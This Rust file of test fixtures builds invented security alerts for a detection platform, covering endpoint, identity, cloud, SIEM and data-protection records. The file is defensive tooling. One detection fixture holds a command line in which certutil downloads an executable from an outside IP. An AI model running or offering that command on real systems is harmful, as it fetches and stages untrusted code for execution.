//! One invented alert of each kind, in the shapes and with the oddities of real ones.

use serde_json::{Value, json};

pub const AID: &str = "c36c42b64ce54b39a32e1d57240704c8";
pub const CID: &str = "8693deb4bf134cfb8855ee118d9a0243";

/// All kinds.
pub fn every_kind() -> Vec<Value> {
    vec![
        endpoint(),
        blocked(),
        scan(),
        identity(),
        mobile(),
        cloud(),
        siem(),
        cross_product(),
        third_party(),
        lead(),
        data_protection(),
        detection(),
        behavior(),
        json!({ "composite_id": "x", "product": "of-the-future", "severity": { "level": "odd" }, "device": [1, 2] }),
    ]
}

/// EPP: a process with its ancestry and what it touched.
pub fn endpoint() -> Value {
    let mut raw = json!({
        "composite_id": format!("{CID}:ind:{AID}:625-20151-7049"),
        "product": "epp", "type": "ldt", "display_name": "Suspicious script", "severity": 70, "severity_name": "High",
        "confidence": 80, "status": "new", "agent_id": AID,
        "cmdline": "powershell.exe -File a.ps1", "filename": "powershell.exe",
        "filepath": "\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "process_id": "625985642593750673", "parent_process_id": "625985535262558233", "local_process_id": "4077",
        "process_start_time": "1750099614", "process_end_time": "0", "sha1": "0".repeat(40), "sha256": "AB".repeat(32),
        "user_name": "j.smith", "logon_domain": "ACME", "user_id": "S-1-5-21-1-2-3-1104", "user_principal": "j.smith@acme.example",
        "user_names": ["J.Smith", "svc_backup"],
        "parent_details": { "filename": "winword.exe", "cmdline": "winword.exe /n", "process_id": "625985535262558233",
            "timestamp": "2025-06-16T18:46:35Z", "local_process_id": "2887",
            "user_name": "j.smith", "user_id": "S-1-5-21-1-2-3-1104" },
        "grandparent_details": { "filename": "explorer.exe", "process_id": "5", "local_process_id": "88" },
        "device": { "device_id": AID, "hostname": "FIN-LT-204", "platform_name": "Windows", "status": "normal",
            "product_type_desc": "Workstation", "local_ip": "10.1.2.3", "ou": null, "agent_local_time": "2610-01-05T13:11:22.705Z" },
        "mitre_attack": [{ "tactic": "Execution", "tactic_id": "TA0002", "technique": "PowerShell", "technique_id": "T1059.001" }, { "pattern_id": 5 }],
        "pattern_disposition_details": { "detect": true, "kill_process": false, "process_blocked": false },
        "pattern_disposition_description": "Detection, standard detection.",
        "timestamp": "2025-06-16T18:46:54.925Z", "created_timestamp": "2025-06-16T18:47:56.231503572Z",
        "falcon_host_link": "https://falcon.us-2.crowdstrike.com/activity-v2/detections/x",
        "a.b": "flat", "a": { "b": "deep" },
        "a_field_of_the_future": { "deep": ["kept", 7, "N/A"] },
    });
    let touched = json!({
        "files_written": [{ "filename": "d.bin", "filepath": "\\Device\\HarddiskVolume3\\Temp\\", "timestamp": "1750099620" }],
        "executables_written": [{ "filename": "d.bin", "filepath": "\\Device\\HarddiskVolume3\\Temp\\", "timestamp": "1750099620" }],
        "documents_accessed": [{ "filename": "plan.docx", "filepath": "\\Device\\HarddiskVolume3\\Docs", "timestamp": "1750099621" }],
        "dns_requests": [{ "domain_name": "cdn-sync.example", "load_time": "2025-06-16T18:47:40Z" }],
        "network_accesses": [
            { "remote_address": "203.0.113.9", "remote_port": "443", "connection_direction": "Outbound", "access_timestamp": "1750099660", "access_type": 0, "isIPV6": false },
            { "remote_address": "203.0.113.10", "remote_port": 51000, "connection_direction": 1, "access_timestamp": 1_750_099_661 },
        ],
        "ioc_context": [{ "ioc_type": "hash_sha256", "ioc_value": "CD".repeat(32), "ioc_description": "\\Device\\HarddiskVolume3\\Temp\\lib.dll" }],
        "ioc_type": "domain", "ioc_value": "cdn-sync.example",
    });
    if let (Some(raw), Value::Object(touched)) = (raw.as_object_mut(), touched) {
        raw.extend(touched);
    }
    raw
}

/// OverWatch, on product epp; the process was kept from running. Its parent was last seen after that.
fn blocked() -> Value {
    json!({
        "composite_id": format!("{CID}:ind:{AID}:7-8-9"), "product": "epp", "type": "ldt", "agent_id": AID,
        "display_name": "Hands on keyboard", "tactic": "Falcon Overwatch", "tactic_id": "CSTA0006", "severity": 90, "severity_name": "Critical",
        "cmdline": "\"C:\\Users\\kim\\x y.exe\" /q", "process_id": "7", "process_start_time": "1750099614", "user_name": "kim",
        "parent_details": { "filepath": "\\Device\\HarddiskVolume3\\Windows\\explorer.exe", "process_graph_id": format!("pid:{AID}:6"), "timestamp": "2025-06-16T18:50:00Z" },
        "grandparent_details": { "filename": "userinit.exe", "process_id": "5" },
        "device": { "device_id": AID, "hostname": "FIN-DC-01", "platform_name": "Windows", "product_type_desc": "Domain Controller" },
        "pattern_disposition": 2176, "pattern_disposition_description": "Prevention/Quarantine, process was blocked from execution and quarantine was attempted.",
        "pattern_disposition_details": { "process_blocked": true, "quarantine_file": true },
        "quarantined_files": [{ "id": "q", "filename": "\\Device\\HarddiskVolume3\\Users\\kim\\x y.exe", "sha256": "ef".repeat(32), "state": "quarantined" }],
        "context_timestamp": "2025-06-16T18:46:55Z",
    })
}

/// An on-demand scan's finding: name and path of a file, no process.
pub fn scan() -> Value {
    json!({
        "composite_id": format!("{CID}:ods:{CID}:bcd3"), "product": "epp", "type": "ods", "agent_id": AID, "aggregate_id": "",
        "display_name": "OnDemandScanFileFinding", "filename": "setup.exe", "filepath": "E:\\Software\\setup.exe", "sha256": "12".repeat(32),
        "scan_id": "e1", "severity": 50, "severity_name": "Medium", "quarantined": true,
        "pattern_disposition_description": "Detection/Quarantine, standard detection and quarantine was attempted.",
        "device": { "device_id": AID, "hostname": "PLANT-7", "platform_name": "Windows", "pod_labels": null },
        "timestamp": "2024-08-20T09:11:27Z",
    })
}

/// Identity: one account under four names, from a host with a sensor to another.
pub fn identity() -> Value {
    json!({
        "composite_id": format!("{CID}:ind:{CID}:C0BB6ACD"), "product": "idp", "type": "idp-user-endpoint-app-info",
        "display_name": "Verification denied", "severity": 79, "severity_name": "High", "agent_id": AID,
        "source_account_name": "Kim Example", "source_account_sam_account_name": "kim", "source_account_upn": "kim@acme.example",
        "source_account_domain": "ACME.EXAMPLE", "source_account_object_sid": "S-1-5-21-1-2-3-1141", "user_name": "kim",
        "source_endpoint_sensor_id": AID, "source_endpoint_host_name": "FIN-LT-9", "source_endpoint_address_ip4": "192.0.2.4", "source_endpoint_ip_address": "192.0.2.4",
        "target_endpoint_sensor_id": "ac89a368e77a4fa5837b53c7f11fc9e7", "target_endpoint_host_name": "FIN-FS-1", "target_account_name": "FIN-FS-1$",
        "target_domain_controller_host_name": "FIN-DC-01",
        "privileges": "2177", "location_latitude_as_int": -1_182_610, "model_anomaly_indicators": ["UNUSUAL_IP"],
        "crawl_edge_ids": { "Sensor": ["KZcZ=__;K&cmqQ]Z=W,QK4W.9(rBfs\\gfm"] },
        "context_timestamp": "2024-08-16T18:43:44.242Z", "start_time": "133355377959700000",
    })
}

fn mobile() -> Value {
    json!({
        "composite_id": format!("{CID}:ind:22:333|444"), "product": "mobile", "type": "mobile-android-attestation", "agent_id": "not-hex",
        "computer_name": "Pixel of Kim", "platform": "Android", "is_jailbroken": "0", "falcon_app_trusted": true, "verified_boot_state": 2,
        "severity": 90, "severity_name": "Critical", "user_name": "kim@acme.example", "timestamp": "2024-05-30T12:26:34.384Z",
    })
}

/// A call to a cloud's control plane. `source_account_name` is the cloud account's name.
pub fn cloud() -> Value {
    json!({
        "composite_id": format!("{CID}:fcs:ioa-211:0-1"), "product": "fcs", "type": "cloud-ioa", "aggregate_id": "", "mfa_authenticated": "false",
        "display_name": "Security group opened", "severity": 70, "event_name": "AuthorizeSecurityGroupIngress", "resource_id": "sg-0001",
        "request_parameters": "{\"groupId\":\"sg-0001\"}", "device": { "service_provider": "AWS", "service_provider_account_id": "0123" },
        "source_account_name": "production", "user_name": "kim", "user_names": ["kim"], "source_ips": ["192.0.2.1"], "source_ip_address": "192.0.2.1",
        "first_timestamp": "2026-04-20T22:39:25Z", "timestamp": "2026-04-20T22:49:13Z",
    })
}

fn siem() -> Value {
    json!({
        "composite_id": format!("{CID}:ngsiem:{CID}:ab"), "product": "ngsiem", "type": "correlation-detection", "display_name": "Inbound threat",
        "event_ids": "one,two", "mitre_attack": [], "users": [{ "user_name": "kim", "sid": "", "aid": "" }], "usernames": ["kim"], "user_names": ["kim"],
        "host_names": ["desktop-1.example"], "source_hosts": ["scanner.example", "desktop-1.example"], "severity": "30", "severity_name": "Low",
        "start_time": "2026-06-01T17:22:21.334Z", "timestamp": "2026-06-02T02:42:32Z", "enriched_entities": {}, "correlation_rule_create_case": true,
    })
}

fn cross_product() -> Value {
    json!({
        "composite_id": format!("{CID}:ind:{CID}:xdr|inc-{AID}-11"), "product": "xdr", "type": "xdr", "name": "kim on vm",
        "tactic_ids": ["TA0002", "TA0003"], "tactics": ["Execution", "Persistence"], "technique_ids": ["T1059"], "techniques": ["Command and Scripting Interpreter"],
        "severity": 16, "start_time": 1_719_309_569_000_u64, "host_names": ["vm-1", "vm-2"],
    })
}

fn third_party() -> Value {
    json!({
        "composite_id": format!("{CID}:thirdparty:{CID}:12"), "product": "thirdparty", "name": "Impossible travel", "severity": "70",
        "source_vendors": ["Another"], "source_ips": ["198.51.100.7"], "timestamp": "2026-01-01 10:00:00.000000000",
    })
}

/// A lead, put together from findings on two hosts.
pub fn lead() -> Value {
    json!({
        "composite_id": format!("{CID}:automated-lead:{CID}:cc"), "product": "automated-lead", "type": "automated-lead", "agent_id": AID,
        "name": "vm-1 at 2026-05-11", "score": 12.5, "device": { "device_id": AID }, "mitre_attack": [{ "pattern_id": 6004 }],
        "signal_start_timestamp": 1_778_476_307_000_u64,
        "threatgraph_indicators": [
            { "host_id": AID, "hostname": "vm-1", "display_name": "ReconUnderWebService", "process_id": "1778476306425098436", "signal_association_timestamp": "1778476307" },
            { "host_id": "bb", "hostname": "vm-2", "description": "A second host", "signal_association_timestamp": "2026-05-11T05:13:00Z" },
        ],
    })
}

/// Data protection: a file that was kept from leaving.
pub fn data_protection() -> Value {
    json!({
        "composite_id": format!("{CID}:ind:{AID}:dlp1"), "product": "data-protection", "agent_id": AID, "hostname": "FIN-LT-9",
        "name": "Sensitive file copied", "user_name": "kim", "user_sid": "S-1-5-21-9-9-9-1001", "filename": "salaries.xlsx",
        "destination": { "channel": "usb" }, "content_patterns": [{ "name": "IBAN", "match_count": "12" }], "data_volume": "48213",
        "response_action": "blocked", "timestamp": 1_718_032_715_000_000_000_u64,
    })
}

/// The Detects API's shape: several behaviors, the second the worst, with prefixed parent fields.
pub fn detection() -> Value {
    json!({
        "detection_id": format!("ldt:{AID}:528"), "status": "new", "max_severity": 70, "max_severity_displayname": "High", "max_confidence": 80,
        "first_behavior": "2021-12-19T13:53:27Z", "created_timestamp": "2021-12-19T13:53:34.708949512Z", "date_updated": "2021-12-19T13:53:35Z",
        "device": { "device_id": AID, "hostname": "VM-DEMO", "platform_name": "Windows" }, "hostinfo": { "domain": "" },
        "behaviors": [
            { "device_id": AID, "behavior_id": "10197", "timestamp": "2021-12-19T13:53:27Z", "display_name": "First", "severity": 30, "filename": "choice.exe",
              "cmdline": "choice /m x", "tactic": "Malware", "tactic_id": "CSTA0001", "user_name": "admin", "user_id": "S-1-5-21-3-1000",
              "triggering_process_graph_id": format!("pid:{AID}:1560"),
              "parent_details": { "parent_cmdline": "\"C:\\Windows\\system32\\cmd.exe\" ", "parent_process_graph_id": format!("pid:{AID}:9029"), "parent_md5": "", "parent_sha256": "34".repeat(32) } },
            { "device_id": AID, "behavior_id": "10198", "timestamp": "2021-12-19T13:54:27Z", "display_name": "Worst", "severity": 70, "filename": "certutil.exe",
              "cmdline": "certutil.exe -urlcache -f http://198.51.100.7/a a.exe", "triggering_process_graph_id": format!("pid:{AID}:1561"),
              "pattern_disposition_details": { "kill_process": true }, "user_name": "admin", "user_id": "S-1-5-21-3-1000" },
        ],
    })
}

/// One behavior alone.
fn behavior() -> Value {
    json!({
        "behavior_id": "10197", "device_id": AID, "timestamp": "2021-12-19T13:53:27Z", "scenario": "suspicious_activity", "severity": 30,
        "tactic": "Malware", "filename": "choice.exe", "cmdline": "choice /m x", "triggering_process_graph_id": format!("pid:{AID}:1560"), "user_name": "admin",
    })
}
